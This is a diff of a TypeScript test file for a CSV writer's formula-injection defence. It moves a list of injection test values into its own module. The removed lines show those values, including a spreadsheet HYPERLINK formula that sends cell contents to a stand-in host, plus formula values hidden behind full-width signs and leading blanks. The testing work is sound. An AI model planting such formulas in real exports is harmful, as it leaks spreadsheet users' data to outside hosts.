@@ -2,22 +2,8 @@ import assert from 'node:assert/strict';
 import pg from 'pg';
 import { to } from 'pg-copy-streams';
 import { csvField, csvLine, FORMULA_SIGNS, formulaSafeSql, LEADING_BLANKS, neutraliseFormula, recoverRaw } from '../../infra/csvWriter';
+import { FORMULA_CELLS } from './formulaCells';
 import { testEnv } from '../setup/globalHooks';
-
-/** Every value whose first character (or first after blanks) a spreadsheet may read as a formula start, and the mark itself. */
-export const FORMULA_CELLS: string[] = [
-  ...FORMULA_SIGNS.map((c) => `${c}1+1`),
-  ...FORMULA_SIGNS.map((c) => `${c}HYPERLINK("http://x?"&A1)`),
-  ...LEADING_BLANKS.flatMap((b) => FORMULA_SIGNS.map((c) => `${b}${b}${c}SUM(A1)`)),
-  "'=already marked",
-  "'plain with a quote",
-  "''",
-  '=',
-  '\uFF1D1+1',
-  '\uFF0B1',
-  '\uFF0D1',
-  '\uFF20SUM(A1)',
-];
 
 /** Values the rule leaves alone. */
 const PLAIN = ['plain', 'a=b', 'x-y', 'MWF', '09:00', 'é ü 中', 'NULL', '\\.', ' lead', 'trail ', '1e5', 'a\n=b', '\u2212minus sign'];
